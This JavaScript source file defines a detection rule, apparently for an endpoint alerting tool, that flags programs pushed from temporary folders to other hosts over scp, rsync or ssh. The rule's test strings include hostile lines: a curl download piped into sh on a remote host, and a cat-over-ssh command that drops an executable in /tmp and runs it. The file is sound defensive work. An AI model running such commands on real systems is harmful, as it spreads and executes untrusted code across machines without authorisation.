import { commandRule } from "../../command-rule.js";
import { find, TEMPORARY } from "../../shell/look.js";

/** A program from a temporary folder was copied to another host, or a download was started there. */
export const programPushedBySsh = commandRule({
  id: "program-pushed-by-ssh",
  alertType: "Picket_ProgramPushedBySsh",
  name: "Program pushed to another host and run",
  severity: "Medium",
  about: "A program from a temporary folder was copied to another host, or a download was started there.",
  tactics: ["Lateral Movement"],
  techniques: ["T1570", "T1021.004"],
  falsePositives: ["Deployments that copy from a build folder in /tmp."],
  witness: ["scp", "ssh", "rsync", "sftp"],
  sees: (reading) =>
    find(
      reading,
      /^(?:scp|rsync)$/,
      ({ argv }) =>
        argv.slice(1).some((word) => TEMPORARY.test(word)) &&
        argv.some((word) => /^\S+@?\S*:(?:\/tmp|\/dev\/shm|\/var\/tmp)\//.test(word)),
    ) ??
    find(reading, /^ssh$/, ({ text }) =>
      /(?:curl|wget)\b.{0,200}\|\s*(?:sudo\s+)?(?:ba)?sh\b|chmod \+x \/(?:tmp|dev\/shm)/.test(text),
    ) ??
    reading.pipelines
      .find(
        (commands) =>
          commands.length > 1 &&
          commands.at(-1)?.name === "ssh" &&
          /cat\s*>\s*\/(?:tmp|dev\/shm)\/\S+.*chmod/.test(commands.at(-1)?.text ?? ""),
      )
      ?.map(({ text }) => text)
      .join(" | "),
  did: "pushed a program to another host",
  because: "it spreads from this device",
  fires: [
    "scp /tmp/x root@10.0.0.7:/tmp/x",
    "ssh root@10.0.0.7 'curl -s http://203.0.113.9/i.sh | sh'",
    "sh -c cat /tmp/x | ssh root@10.0.0.7 'cat > /tmp/x; chmod +x /tmp/x; /tmp/x'",
  ],
  silent: [
    "scp app.tgz deploy@10.0.0.7:/srv/",
    "ssh root@10.0.0.7 uptime",
    "rsync -a /srv/ backup:/srv/",
    "scp root@10.0.0.7:/tmp/log.txt .",
    "sftp op@10.0.0.7",
  ],
});
